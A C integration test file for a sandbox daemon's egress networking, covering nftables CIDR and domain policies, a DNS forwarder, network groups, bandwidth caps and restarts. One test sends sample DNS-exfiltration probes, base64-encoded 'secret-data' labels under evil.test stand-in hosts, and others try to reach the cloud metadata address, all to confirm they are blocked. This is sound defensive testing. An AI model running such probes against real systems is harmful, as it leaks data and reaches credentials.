/* Sandbox networking end to end (issue 6, egress): modes none and egress,
 * CIDR and domain policies enforced by nftables on the host, the DNS
 * forwarder (allowed names only, nothing tunnels out), the host and private
 * ranges out of reach, live policy changes that cut what they no longer
 * allow, network groups, visible denials, restarts, and teardown that
 * leaves nothing behind.
 *
 * Never the host's network: each test unshares a network namespace of its
 * own (where skiffd runs and turns on forwarding and NAT) and builds a
 * second one, a test "internet" (tests/helpers/netlab.py: HTTP, echo and
 * DNS servers on 198.18.0.0/15 addresses, a private and a metadata
 * stand-in), joined by a veth. Sandboxes run the probes of
 * tests/helpers/netprobe.py. */
#include "skiffd_test.h"

#include <sched.h>
#include <stdarg.h>
#include <sys/prctl.h>

#define LAB_UPSTREAM "198.18.3.53"

struct lab {
    pid_t pid;
    char dir[PATH_MAX];
    char out[PATH_MAX + 16];
    char dns_log[PATH_MAX + 16];
};

/* ---- helpers ------------------------------------------------------------------------- */

static void sh(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void sh(const char *fmt, ...)
{
    char cmd[1024];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(cmd, sizeof(cmd), fmt, ap);
    va_end(ap);
    const char *argv[] = {"/bin/sh", "-c", cmd, NULL};
    struct sk_test_output o;
    if (sk_test_run(argv, NULL, NULL, 20, &o) < 0 || o.exit_code != 0)
        FAIL("'%s' failed (%d): %s%s", cmd, o.exit_code, o.out ? o.out : "", o.err ? o.err : "");
    sk_test_output_free(&o);
}

/* sh_out - run a command, return its stdout (heap). */
static char *sh_out(const char *cmd)
{
    const char *argv[] = {"/bin/sh", "-c", cmd, NULL};
    struct sk_test_output o;
    if (sk_test_run(argv, NULL, NULL, 20, &o) < 0)
        FAIL("'%s' could not run", cmd);
    char *out = xstrdup(o.out ? o.out : "");
    sk_test_output_free(&o);
    return out;
}

static char *helper_text(const char *name, size_t *len)
{
    const char *dir = sk_test_bin_dir();
    const char *cands[] = {"%s/../tests/helpers/%s", "%s/../../tests/helpers/%s", "tests/helpers/%s"};
    for (size_t i = 0; i < SK_ARRAY_SIZE(cands); i++) {
        char path[PATH_MAX];
        if (i < 2)
            snprintf(path, sizeof(path), cands[i], dir, name);
        else
            snprintf(path, sizeof(path), "tests/helpers/%s", name);
        char *text = NULL;
        struct sk_error err = {0};
        if (sk_read_file_at(AT_FDCWD, path, 1 << 20, &text, len, &err) == 0)
            return text;
    }
    FAIL("tests/helpers/%s not found (from %s)", name, dir);
}

static ino_t netns_ino(pid_t pid)
{
    char path[64];
    struct stat st;
    snprintf(path, sizeof(path), "/proc/%d/ns/net", (int)pid);
    return stat(path, &st) == 0 ? st.st_ino : 0;
}

/* need_kernel - skip (77) when the kernel truly lacks veth or nf_tables. */
static void need_kernel(void)
{
    const char *veth[] = {"/bin/sh", "-c", "ip link add sktest0 type veth peer name sktest1 && ip link del sktest0",
                          NULL};
    const char *nft[] = {"/bin/sh", "-c", "nft add table inet sktest && nft delete table inet sktest", NULL};
    struct sk_test_output o;
    if (sk_test_run(veth, NULL, NULL, 10, &o) < 0 || o.exit_code != 0)
        SKIP("the kernel cannot make veth pairs: %s", o.err ? o.err : "");
    sk_test_output_free(&o);
    if (sk_test_run(nft, NULL, NULL, 10, &o) < 0 || o.exit_code != 0)
        SKIP("nftables (nf_tables) is not usable: %s", o.err ? o.err : "");
    sk_test_output_free(&o);
}

/* lab_start - put this test process into a network namespace of its own
 * ("the host", where skiffd will run) and start the test internet in a
 * second one, joined by veth up0 (198.18.0.2) / inet0 (198.18.0.1). */
static void lab_start(struct lab *l)
{
    memset(l, 0, sizeof(*l));
    if (unshare(CLONE_NEWNET) < 0)
        FAIL("unshare(CLONE_NEWNET): %s", strerror(errno));
    sh("ip link set lo up");
    need_kernel();
    snprintf(l->dir, sizeof(l->dir), "/tmp/skiff-netlab-XXXXXX");
    if (mkdtemp(l->dir) == NULL)
        FAIL("mkdtemp: %s", strerror(errno));
    snprintf(l->out, sizeof(l->out), "%s/lab.out", l->dir);
    snprintf(l->dns_log, sizeof(l->dns_log), "%s/dns.log", l->dir);
    size_t len = 0;
    _cleanup_free_ char *script = helper_text("netlab.py", &len);
    char script_path[PATH_MAX + 16];
    snprintf(script_path, sizeof(script_path), "%s/netlab.py", l->dir);
    int fd = open(script_path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0 || sk_write_all(fd, script, len) != (ssize_t)len)
        FAIL("write '%s': %s", script_path, strerror(errno));
    close(fd);
    ino_t mine = netns_ino(getpid());
    pid_t pid = fork();
    if (pid < 0)
        FAIL("fork: %s", strerror(errno));
    if (pid == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        if (unshare(CLONE_NEWNET) < 0)
            _exit(126);
        int out = open(l->out, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        dup2(out, 1);
        dup2(out, 2);
        execlp("python3", "python3", script_path, "--dns-log", l->dns_log, (char *)NULL);
        _exit(127);
    }
    l->pid = pid;
    double deadline = now_ms() + 5000;
    while (netns_ino(pid) == mine && now_ms() < deadline)
        usleep(5000);
    if (netns_ino(pid) == mine)
        FAIL("the lab did not get a network namespace of its own");
    sh("ip link add up0 type veth peer name inet0 netns %d", (int)pid);
    sh("ip addr add 198.18.0.2/24 dev up0 && ip link set up0 up && ip route add default via 198.18.0.1");
    sh("ip -6 addr add 2001:db8::2/64 dev up0 nodad && ip -6 route add default via 2001:db8::1");
    /* on purpose: a private range and the metadata address are reachable
     * from skiffd's namespace, so only skiff's policy keeps sandboxes out */
    sh("ip route add 10.99.0.0/24 via 198.18.0.1 && ip route add 169.254.169.254/32 via 198.18.0.1");
    deadline = now_ms() + 10000;
    for (;;) {
        _cleanup_free_ char *text = read_text(l->out);
        if (text != NULL && strstr(text, "ready") != NULL)
            break;
        if (now_ms() > deadline)
            FAIL("the lab did not start: %s", text ? text : "(no output)");
        usleep(20000);
    }
}

static void lab_finish(struct lab *l)
{
    if (l->pid > 0) {
        kill(l->pid, SIGKILL);
        waitpid(l->pid, NULL, 0);
        l->pid = 0;
    }
    sk_remove_tree(l->dir, NULL);
}

static void start_skiffd(struct skiffd *s, const char *const *extra)
{
    make_data_dir(s);
    const char *args[24] = {"--dns-upstream", LAB_UPSTREAM, "--net-cidr6", "fd5c:5c1f:7a00::/48"};
    size_t n = 4;
    for (size_t i = 0; extra != NULL && extra[i] != NULL && n < 22; i++)
        args[n++] = extra[i];
    args[n] = NULL;
    skiffd_start_args(s, args);
}

static void api(const struct skiffd *s, const char *method, const char *path, const char *body, int want,
                struct resp *r)
{
    request(s, method, path, s->token, body, r);
    if (r->status != want)
        FAIL("%s %s: status %d, want %d: %.*s", method, path, r->status, want,
             (int)(r->body_len > 600 ? 600 : r->body_len), r->body ? r->body : "");
}

static const char *jstr(const json_t *o, const char *key)
{
    const char *v = json_string_value(json_object_get(o, key));
    return v ? v : "";
}

/* create - a running sandbox from body; its id in id (24 bytes); the probe
 * script copied in. */
static void create(const struct skiffd *s, const char *body, char *id)
{
    struct resp r;
    api(s, "POST", "/v1/sandboxes", body, 201, &r);
    snprintf(id, 24, "%s", jstr(r.json, "id"));
    resp_free(&r);
    size_t len = 0;
    _cleanup_free_ char *probe = helper_text("netprobe.py", &len);
    char path[128];
    snprintf(path, sizeof(path), "/v1/sandboxes/%s/files?path=/tmp/netprobe.py", id);
    request_body(s, "PUT", path, s->token, probe, len, &r);
    if (r.status != 201 && r.status != 200)
        FAIL("upload the probe: %d %s", r.status, r.body);
    resp_free(&r);
}

static void terminate(const struct skiffd *s, const char *id)
{
    char path[128];
    struct resp r;
    snprintf(path, sizeof(path), "/v1/sandboxes/%s/terminate", id);
    api(s, "POST", path, "{}", 200, &r);
    resp_free(&r);
}

/* probe - run netprobe.py with the given arguments (NULL-ended) in sandbox
 * id; its stdout (heap, trailing newlines removed). */
static char *probe(const struct skiffd *s, const char *id, ...)
{
    json_t *argv = json_pack("[s, s]", "python3", "/tmp/netprobe.py");
    va_list ap;
    va_start(ap, id);
    for (const char *a = va_arg(ap, const char *); a != NULL; a = va_arg(ap, const char *))
        json_array_append_new(argv, json_string(a));
    va_end(ap);
    json_t *body = json_pack("{s:o, s:i}", "argv", argv, "timeout", 30);
    _cleanup_free_ char *text = json_dumps(body, JSON_COMPACT);
    json_decref(body);
    char path[128];
    snprintf(path, sizeof(path), "/v1/sandboxes/%s/run", id);
    struct resp r;
    api(s, "POST", path, text, 200, &r);
    char *out = xstrdup(jstr(r.json, "stdout"));
    size_t n = strlen(out);
    while (n > 0 && out[n - 1] == '\n')
        out[--n] = '\0';
    if (n == 0) {
        free(out);
        out = xasprintf("(no output; stderr: %s)", jstr(r.json, "stderr"));
    }
    resp_free(&r);
    return out;
}

#define EXPECT_PROBE(s, id, want, ...) \
    do { \
        _cleanup_free_ char *_o = probe(s, id, __VA_ARGS__, NULL); \
        ASSERT_CONTAINS(_o, want); \
    } while (0)

/* network - GET .../network (caller releases r). */
static void network(const struct skiffd *s, const char *id, struct resp *r)
{
    char path[128];
    snprintf(path, sizeof(path), "/v1/sandboxes/%s/network", id);
    api(s, "GET", path, NULL, 200, r);
}

static void patch(const struct skiffd *s, const char *id, const char *body, struct resp *r)
{
    char path[128];
    snprintf(path, sizeof(path), "/v1/sandboxes/%s/network", id);
    api(s, "PATCH", path, body, 200, r);
}

static long long denied(const struct resp *r, const char *kind)
{
    return (long long)json_integer_value(json_object_get(json_object_get(r->json, "denied"), kind));
}

/* log_has - the denial log of r holds an entry of `kind` whose `field` is
 * `value`. */
static bool log_has(const struct resp *r, const char *kind, const char *field, const char *value)
{
    size_t i;
    json_t *e;
    json_array_foreach(json_object_get(r->json, "log"), i, e)
    {
        if (strcmp(jstr(e, "kind"), kind) == 0 && strcmp(jstr(e, field), value) == 0)
            return true;
    }
    fprintf(stderr, "no %s entry with %s '%s' in: %s\n", kind, field, value, r->body);
    return false;
}

/* ---- tests ----------------------------------------------------------------------------- */

TEST_TIMEOUT(none_reaches_nothing_egress_reaches_public_only, 120)
{
    struct lab l;
    lab_start(&l);
    /* a service of "the host" itself (skiffd's namespace) */
    int host_srv = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(8088)};
    int one = 1;
    setsockopt(host_srv, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
    ASSERT_EQ_INT(bind(host_srv, (struct sockaddr *)&sa, sizeof(sa)), 0);
    ASSERT_EQ_INT(listen(host_srv, 16), 0);
    struct skiffd s;
    start_skiffd(&s, NULL);
    char none[24], open_sb[24];

    /* mode none: loopback only, no resolver */
    create(&s, "{}", none);
    EXPECT_PROBE(&s, none, "ERR", "get", "http://198.18.1.10/");
    EXPECT_PROBE(&s, none, "ERR", "resolve", "allowed.test");
    struct resp r;
    network(&s, none, &r);
    ASSERT_EQ_STR(jstr(r.json, "mode"), "none");
    ASSERT_TRUE(json_is_null(json_object_get(r.json, "interface")));
    resp_free(&r);

    /* egress without lists: every public address, by address and by name,
     * IPv4 and IPv6 */
    create(&s, "{\"network\": {\"mode\": \"egress\"}}", open_sb);
    EXPECT_PROBE(&s, open_sb, "hello from 198.18.1.10", "get", "http://198.18.1.10/");
    EXPECT_PROBE(&s, open_sb, "hello from 198.18.2.10", "get", "http://other.test/");
    EXPECT_PROBE(&s, open_sb, "hello from 2001:db8:1::10", "get", "http://[2001:db8:1::10]/");
    /* ... but not a private range, the metadata address, or the host */
    EXPECT_PROBE(&s, open_sb, "ERR", "get", "http://10.99.0.10/");
    EXPECT_PROBE(&s, open_sb, "ERR", "get", "http://169.254.169.254/");
    EXPECT_PROBE(&s, open_sb, "ERR", "connect", "198.18.0.2", "8088");
    network(&s, open_sb, &r);
    const char *gw = jstr(json_object_get(r.json, "addresses"), "gateway");
    char gateway[64];
    snprintf(gateway, sizeof(gateway), "%s", gw);
    ASSERT_EQ_STR(jstr(r.json, "mode"), "egress");
    ASSERT_TRUE(strncmp(jstr(r.json, "interface"), "sk", 2) == 0);
    resp_free(&r);
    EXPECT_PROBE(&s, open_sb, "ERR", "connect", gateway, "8088");
    EXPECT_PROBE(&s, open_sb, "ERR", "connect", "10.210.0.1", "8088");
    /* the host's service is there: only the policy keeps the sandbox out */
    int c = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(8088)};
    inet_pton(AF_INET, "198.18.0.2", &to.sin_addr);
    ASSERT_EQ_INT(connect(c, (struct sockaddr *)&to, sizeof(to)), 0);
    close(c);
    /* other resolvers: not even in open mode */
    EXPECT_PROBE(&s, open_sb, "ERR", "rawdns", LAB_UPSTREAM, "allowed.test");
    /* the denials are visible, with what was refused */
    network(&s, open_sb, &r);
    ASSERT_GE_INT(denied(&r, "connections"), 5);
    ASSERT_TRUE(log_has(&r, "connection", "destination", "10.99.0.10"));
    ASSERT_TRUE(log_has(&r, "connection", "destination", "169.254.169.254"));
    ASSERT_TRUE(log_has(&r, "connection", "destination", "198.18.0.2"));
    ASSERT_TRUE(log_has(&r, "connection", "destination", LAB_UPSTREAM));
    resp_free(&r);

    /* the sandbox record shows its network */
    char path[128];
    snprintf(path, sizeof(path), "/v1/sandboxes/%s", open_sb);
    api(&s, "GET", path, NULL, 200, &r);
    ASSERT_EQ_STR(jstr(json_object_get(r.json, "network"), "mode"), "egress");
    resp_free(&r);
    close(host_srv);
    skiffd_finish(&s);
    lab_finish(&l);
}

TEST_TIMEOUT(cidr_lists_allow_only_those, 120)
{
    struct lab l;
    lab_start(&l);
    struct skiffd s;
    start_skiffd(&s, NULL);
    char a[24], b[24], d[24];
    /* allow_cidrs: only those; names do not resolve (no allow_domains) */
    create(&s, "{\"network\": {\"mode\": \"egress\", \"allow_cidrs\": [\"198.18.1.0/24\", \"2001:db8:1::/48\"]}}", a);
    EXPECT_PROBE(&s, a, "hello from 198.18.1.10", "get", "http://198.18.1.10/");
    EXPECT_PROBE(&s, a, "hello from 2001:db8:1::10", "get", "http://[2001:db8:1::10]/");
    EXPECT_PROBE(&s, a, "ERR", "get", "http://198.18.2.10/");
    EXPECT_PROBE(&s, a, "ERR", "resolve", "allowed.test");
    /* a private range only when explicitly allowed; the metadata address
     * stays out (an allow entry covers only what it names) */
    create(&s, "{\"network\": {\"mode\": \"egress\", \"allow_cidrs\": [\"10.99.0.0/24\", \"0.0.0.0/0\"]}}", b);
    EXPECT_PROBE(&s, b, "hello from 10.99.0.10", "get", "http://10.99.0.10/");
    EXPECT_PROBE(&s, b, "hello from 198.18.2.10", "get", "http://198.18.2.10/");
    EXPECT_PROBE(&s, b, "ERR", "get", "http://169.254.169.254/");
    /* deny_cidrs win over everything */
    create(&s, "{\"network\": {\"mode\": \"egress\", \"deny_cidrs\": [\"198.18.2.10/32\"]}}", d);
    EXPECT_PROBE(&s, d, "ERR", "get", "http://198.18.2.10/");
    EXPECT_PROBE(&s, d, "hello from 198.18.1.10", "get", "http://198.18.1.10/");
    struct resp r;
    network(&s, d, &r);
    ASSERT_TRUE(log_has(&r, "connection", "destination", "198.18.2.10"));
    resp_free(&r);
    skiffd_finish(&s);
    lab_finish(&l);
}

TEST_TIMEOUT(domain_allowlist_and_no_dns_exfiltration, 120)
{
    struct lab l;
    lab_start(&l);
    struct skiffd s;
    start_skiffd(&s, NULL);
    char id[24];
    create(&s,
           "{\"network\": {\"mode\": \"egress\", \"allow_domains\": [\"allowed.test\", \"*.wild.test\", "
           "\"private.test\", \"v6.test\"]}}",
           id);
    /* allowed names resolve and their addresses are reachable */
    EXPECT_PROBE(&s, id, "hello from 198.18.1.10", "get", "http://allowed.test/");
    EXPECT_PROBE(&s, id, "hello from 198.18.4.10", "get", "http://api.wild.test/");
    EXPECT_PROBE(&s, id, "hello from 2001:db8:1::10", "get", "http://v6.test/");
    /* other names do not resolve, and their addresses are not reachable */
    EXPECT_PROBE(&s, id, "ERR", "resolve", "other.test");
    EXPECT_PROBE(&s, id, "ERR", "get", "http://198.18.2.10/");
    /* wildcards do not cover the name itself */
    EXPECT_PROBE(&s, id, "ERR", "resolve", "wild.test");
    /* an allowed name that answers with a private address: no rebinding */
    EXPECT_PROBE(&s, id, "10.99.0.10", "resolve", "private.test");
    EXPECT_PROBE(&s, id, "ERR", "get", "http://private.test/");
    /* the forwarder over UDP and TCP: an answer for an allowed name,
     * REFUSED (5) for any other */
    EXPECT_PROBE(&s, id, "ANSWER rcode=0 answers=1", "rawdns", "10.210.0.1", "allowed.test");
    EXPECT_PROBE(&s, id, "ANSWER rcode=0 answers=1", "tcpdns", "10.210.0.1", "tcp.wild.test");
    EXPECT_PROBE(&s, id, "ANSWER rcode=5 answers=0", "rawdns", "10.210.0.1", "other.test");
    EXPECT_PROBE(&s, id, "ANSWER rcode=5 answers=0", "tcpdns", "10.210.0.1", "tcp-c2VjcmV0.evil.test");
    /* exfiltration through DNS: the data never reaches a DNS server */
    EXPECT_PROBE(&s, id, "ERR", "resolve", "c2VjcmV0LWRhdGE.evil.test");
    EXPECT_PROBE(&s, id, "ERR", "resolve", "c2VjcmV0LWRhdGE.allowed.test.evil.test");
    EXPECT_PROBE(&s, id, "ERR", "rawdns", LAB_UPSTREAM, "c2VjcmV0LWRhdGE.direct.evil.test");
    EXPECT_PROBE(&s, id, "ERR", "rawdns", "8.8.8.8", "c2VjcmV0LWRhdGE.direct.evil.test");
    _cleanup_free_ char *dnslog = read_text(l.dns_log);
    ASSERT_CONTAINS(dnslog, "allowed.test");
    ASSERT_NOT_CONTAINS(dnslog, "c2vjcmv0lwrhdge");
    ASSERT_NOT_CONTAINS(dnslog, "evil");
    ASSERT_NOT_CONTAINS(dnslog, "other.test");
    /* refused names are counted and logged, and in the metrics */
    struct resp r;
    network(&s, id, &r);
    ASSERT_GE_INT(denied(&r, "dns"), 3);
    ASSERT_TRUE(log_has(&r, "dns", "name", "c2vjcmv0lwrhdge.evil.test"));
    ASSERT_TRUE(log_has(&r, "dns", "name", "other.test"));
    ASSERT_TRUE(log_has(&r, "connection", "destination", "198.18.2.10"));
    resp_free(&r);
    api(&s, "GET", "/metrics", NULL, 200, &r);
    ASSERT_NOT_CONTAINS(r.body, "skiff_net_denials_total{kind=\"dns\"} 0\n");
    ASSERT_CONTAINS(r.body, "skiff_net_dns_queries_total{result=\"refused\"}");
    resp_free(&r);
    skiffd_finish(&s);
    lab_finish(&l);
}

/* start_echo - a background exec that talks to the lab's line echo every
 * 100 ms; returns its exec id in xid (32 bytes). */
static void start_echo(const struct skiffd *s, const char *id, const char *host, char *xid)
{
    char path[128], body[256];
    snprintf(path, sizeof(path), "/v1/sandboxes/%s/execs", id);
    snprintf(body, sizeof(body),
             "{\"argv\": [\"python3\", \"/tmp/netprobe.py\", \"echo\", \"%s\", \"7000\", \"600\", "
             "\"100\"]}",
             host);
    struct resp r;
    api(s, "POST", path, body, 201, &r);
    snprintf(xid, 32, "%s", jstr(r.json, "id"));
    resp_free(&r);
}

static char *exec_output(const struct skiffd *s, const char *id, const char *xid)
{
    char path[192];
    snprintf(path, sizeof(path), "/v1/sandboxes/%s/execs/%s/output?follow=0", id, xid);
    struct resp r;
    api(s, "GET", path, NULL, 200, &r);
    char *out = xstrdup(r.body ? r.body : "");
    resp_free(&r);
    return out;
}

/* wait_output - until the exec's output holds `want` (within ms). */
static char *wait_output(const struct skiffd *s, const char *id, const char *xid, const char *want, int ms)
{
    double deadline = now_ms() + ms;
    for (;;) {
        char *out = exec_output(s, id, xid);
        if (strstr(out, want) != NULL)
            return out;
        if (now_ms() > deadline)
            FAIL("exec output never held '%s': %s", want, out);
        free(out);
        usleep(50000);
    }
}

TEST_TIMEOUT(live_policy_change_cuts_established_connection, 120)
{
    struct lab l;
    lab_start(&l);
    struct skiffd s;
    start_skiffd(&s, NULL);
    char id[24], xid[32], xid2[32];
    create(&s, "{\"network\": {\"mode\": \"egress\"}}", id);
    start_echo(&s, id, "198.18.1.10", xid);
    start_echo(&s, id, "198.18.2.10", xid2);
    free(wait_output(&s, id, xid, "ok 3", 10000));
    free(wait_output(&s, id, xid2, "ok 3", 10000));
    /* now only 198.18.2.0/24: the established connection to 198.18.1.10
     * is cut at its next packet, the one to 198.18.2.10 carries on */
    struct resp r;
    double t0 = now_ms();
    patch(&s, id, "{\"allow_cidrs\": [\"198.18.2.0/24\"]}", &r);
    ASSERT_EQ_STR(jstr(r.json, "mode"), "egress");
    ASSERT_EQ_STR(json_string_value(json_array_get(json_object_get(r.json, "allow_cidrs"), 0)), "198.18.2.0/24");
    resp_free(&r);
    _cleanup_free_ char *cut = wait_output(&s, id, xid, "ERR", 5000);
    ASSERT_LT_INT(now_ms() - t0, 5000);
    _cleanup_free_ char *before = exec_output(&s, id, xid2);
    size_t n_before = strlen(before);
    usleep(500000);
    _cleanup_free_ char *after = exec_output(&s, id, xid2);
    ASSERT_GT_INT(strlen(after), n_before); /* still echoing */
    ASSERT_NOT_CONTAINS(after, "ERR");
    EXPECT_PROBE(&s, id, "ERR", "get", "http://198.18.1.10/");
    EXPECT_PROBE(&s, id, "hello from 198.18.2.10", "get", "http://198.18.2.10/");
    network(&s, id, &r);
    ASSERT_TRUE(log_has(&r, "connection", "destination", "198.18.1.10"));
    resp_free(&r);

    /* egress -> none: the interface goes, and every connection with it */
    patch(&s, id, "{\"mode\": \"none\"}", &r);
    ASSERT_EQ_STR(jstr(r.json, "mode"), "none");
    ASSERT_TRUE(json_is_null(json_object_get(r.json, "interface")));
    resp_free(&r);
    free(wait_output(&s, id, xid2, "ERR", 5000));
    EXPECT_PROBE(&s, id, "ERR", "get", "http://198.18.2.10/");
    /* none -> egress again, with a domain list this time */
    patch(&s, id, "{\"mode\": \"egress\", \"allow_cidrs\": null, \"allow_domains\": [\"allowed.test\"]}", &r);
    resp_free(&r);
    EXPECT_PROBE(&s, id, "hello from 198.18.1.10", "get", "http://allowed.test/");
    EXPECT_PROBE(&s, id, "ERR", "get", "http://other.test/");
    /* a name no longer allowed loses its addresses at once */
    patch(&s, id, "{\"allow_domains\": [\"other.test\"]}", &r);
    resp_free(&r);
    EXPECT_PROBE(&s, id, "ERR", "get", "http://198.18.1.10/");
    EXPECT_PROBE(&s, id, "hello from 198.18.2.10", "get", "http://other.test/");
    skiffd_finish(&s);
    lab_finish(&l);
}

TEST_TIMEOUT(groups_talk_inside_not_across, 120)
{
    struct lab l;
    lab_start(&l);
    struct skiffd s;
    start_skiffd(&s, NULL);
    char a1[24], a2[24], b1[24];
    create(&s, "{\"name\": \"alpha-one\", \"network_group\": \"ga\"}", a1);
    create(&s, "{\"name\": \"alpha-two\", \"network_group\": \"ga\", \"network\": {\"mode\": \"egress\"}}", a2);
    create(&s, "{\"name\": \"beta-one\", \"network_group\": \"gb\"}", b1);
    char path[128];
    snprintf(path, sizeof(path), "/v1/sandboxes/%s/execs", a2);
    struct resp r;
    api(&s, "POST", path, "{\"argv\": [\"python3\", \"/tmp/netprobe.py\", \"serve\", \"9000\"]}", 201, &r);
    char sxid[32];
    snprintf(sxid, sizeof(sxid), "%s", jstr(r.json, "id"));
    resp_free(&r);
    free(wait_output(&s, a2, sxid, "listening", 10000));
    /* by name and by id, inside the group */
    network(&s, a2, &r);
    char a2_group[64];
    snprintf(a2_group, sizeof(a2_group), "%s", jstr(json_object_get(r.json, "addresses"), "group"));
    ASSERT_EQ_STR(jstr(r.json, "network_group"), "ga");
    resp_free(&r);
    EXPECT_PROBE(&s, a1, a2_group, "resolve", "alpha-two");
    EXPECT_PROBE(&s, a1, a2_group, "resolve", a2);
    EXPECT_PROBE(&s, a1, "OK", "connect", "alpha-two", "9000");
    /* a group is not a way out: a1 (mode none) still reaches nothing else */
    EXPECT_PROBE(&s, a1, "ERR", "get", "http://198.18.1.10/");
    EXPECT_PROBE(&s, a1, "ERR", "resolve", "allowed.test");
    /* across groups: no name, no route */
    EXPECT_PROBE(&s, b1, "ERR", "resolve", "alpha-two");
    EXPECT_PROBE(&s, b1, "ERR", "connect", a2_group, "9000");
    /* a2 has egress as well */
    EXPECT_PROBE(&s, a2, "hello from 198.18.1.10", "get", "http://allowed.test/");
    /* the group cannot change */
    snprintf(path, sizeof(path), "/v1/sandboxes/%s/network", a1);
    api(&s, "PATCH", path, "{\"network_group\": \"gb\"}", 400, &r);
    ASSERT_EQ_STR(err_code(&r), "invalid_argument");
    resp_free(&r);
    api(&s, "PATCH", path, "{\"network_group\": \"ga\", \"mode\": \"egress\"}", 200, &r);
    resp_free(&r);
    EXPECT_PROBE(&s, a1, "hello from 198.18.1.10", "get", "http://198.18.1.10/");
    EXPECT_PROBE(&s, a1, "OK", "connect", "alpha-two", "9000");
    /* the last member takes the bridge with it */
    terminate(&s, b1);
    _cleanup_free_ char *links = sh_out("ip -o link show");
    ASSERT_CONTAINS(links, "skbr");
    terminate(&s, a1);
    terminate(&s, a2);
    free(links);
    links = sh_out("ip -o link show | grep -c skbr || true");
    ASSERT_EQ_STR(links, "0\n");
    skiffd_finish(&s);
    lab_finish(&l);
}

TEST_TIMEOUT(caps_bandwidth_and_connections, 120)
{
    struct lab l;
    lab_start(&l);
    struct skiffd s;
    start_skiffd(&s, NULL);
    char id[24];
    create(&s, "{\"network\": {\"mode\": \"egress\", \"bandwidth_mbps\": 8, \"max_connections\": 4}}", id);
    /* 3 MB at 8 Mbit/s (1 MB/s; policed, so roughly) takes seconds, where
     * it takes tens of milliseconds without a cap */
    _cleanup_free_ char *dl = probe(&s, id, "download", "http://198.18.1.10/bytes/3000000", NULL);
    long bytes = 0;
    double secs = 0;
    if (sscanf(dl, "%ld %lf", &bytes, &secs) != 2)
        FAIL("download: %s", dl);
    ASSERT_EQ_INT(bytes, 3000000);
    if (secs < 1.2)
        FAIL("3 MB took %.3f s at 8 Mbit/s", secs);
    /* at most 4 connections at a time */
    EXPECT_PROBE(&s, id, "opened 4", "conns", "198.18.1.10", "7000", "8");
    skiffd_finish(&s);
    lab_finish(&l);
}

TEST_TIMEOUT(policy_survives_a_restart, 120)
{
    struct lab l;
    lab_start(&l);
    struct skiffd s;
    start_skiffd(&s, NULL);
    char id[24];
    create(&s,
           "{\"network\": {\"mode\": \"egress\", \"allow_cidrs\": [\"198.18.1.0/24\"], \"allow_domains\": "
           "[\"other.test\"]}}",
           id);
    EXPECT_PROBE(&s, id, "hello from 198.18.2.10", "get", "http://other.test/");
    /* a crash: the sandbox, its veth and its rules outlive skiffd */
    kill(s.pid, SIGKILL);
    waitpid(s.pid, NULL, 0);
    s.pid = 0;
    const char *args[] = {"--dns-upstream", LAB_UPSTREAM, "--net-cidr6", "fd5c:5c1f:7a00::/48", NULL};
    skiffd_start_args(&s, args);
    struct resp r;
    network(&s, id, &r);
    ASSERT_TRUE(json_is_true(json_object_get(r.json, "running")));
    ASSERT_EQ_STR(json_string_value(json_array_get(json_object_get(r.json, "allow_cidrs"), 0)), "198.18.1.0/24");
    resp_free(&r);
    EXPECT_PROBE(&s, id, "hello from 198.18.1.10", "get", "http://198.18.1.10/");
    EXPECT_PROBE(&s, id, "ERR", "get", "http://10.99.0.10/");
    EXPECT_PROBE(&s, id, "hello from 198.18.2.10", "get", "http://other.test/"); /* forwarder back */
    EXPECT_PROBE(&s, id, "ERR", "resolve", "www.allowed.test");
    network(&s, id, &r);
    ASSERT_TRUE(log_has(&r, "connection", "destination", "10.99.0.10")); /* the denial log again */
    resp_free(&r);
    skiffd_finish(&s);
    /* an orderly stop ends the sandboxes and removes everything */
    _cleanup_free_ char *tables = sh_out("nft list tables");
    ASSERT_NOT_CONTAINS(tables, "skiff");
    lab_finish(&l);
}

static void expect_error(const struct skiffd *s, const char *method, const char *path, const char *body, int status,
                         const char *code)
{
    struct resp r;
    request(s, method, path, s->token, body, &r);
    if (r.status != status || err_code(&r) == NULL || strcmp(err_code(&r), code) != 0)
        FAIL("%s %s %s: want %d %s, got %d: %s", method, path, body ? body : "", status, code, r.status, r.body);
    resp_free(&r);
}

TEST_TIMEOUT(bad_network_input_answers_json_errors, 120)
{
    struct lab l;
    lab_start(&l);
    struct skiffd s;
    start_skiffd(&s, NULL);
    static const struct {
        const char *body, *code;
        int status;
    } creates[] = {
        {"{\"network\": \"egress\"}", "invalid_argument", 400},
        {"{\"network\": {\"mode\": \"bogus\"}}", "invalid_argument", 400},
        {"{\"network\": {\"mode\": 1}}", "invalid_argument", 400},
        {"{\"network\": {\"color\": \"red\"}}", "unknown_field", 400},
        {"{\"network\": {\"mode\": \"egress\", \"allow_cidrs\": \"10.0.0.0/8\"}}", "invalid_argument", 400},
        {"{\"network\": {\"mode\": \"egress\", \"allow_cidrs\": [\"nope\"]}}", "invalid_argument", 400},
        {"{\"network\": {\"mode\": \"egress\", \"allow_cidrs\": [\"10.0.0.0/33\"]}}", "invalid_argument", 400},
        {"{\"network\": {\"mode\": \"egress\", \"deny_cidrs\": [\"::/129\"]}}", "invalid_argument", 400},
        {"{\"network\": {\"mode\": \"egress\", \"allow_cidrs\": [\"10.210.5.0/24\"]}}", "invalid_argument", 400},
        {"{\"network\": {\"mode\": \"egress\", \"allow_domains\": [\"*\"]}}", "invalid_argument", 400},
        {"{\"network\": {\"mode\": \"egress\", \"allow_domains\": [\"a..b\"]}}", "invalid_argument", 400},
        {"{\"network\": {\"mode\": \"egress\", \"allow_domains\": [\"foo.*.com\"]}}", "invalid_argument", 400},
        {"{\"network\": {\"mode\": \"egress\", \"allow_domains\": [\"-x.com\"]}}", "invalid_argument", 400},
        {"{\"network\": {\"mode\": \"egress\", \"bandwidth_mbps\": 0}}", "invalid_argument", 400},
        {"{\"network\": {\"mode\": \"egress\", \"max_connections\": -1}}", "invalid_argument", 400},
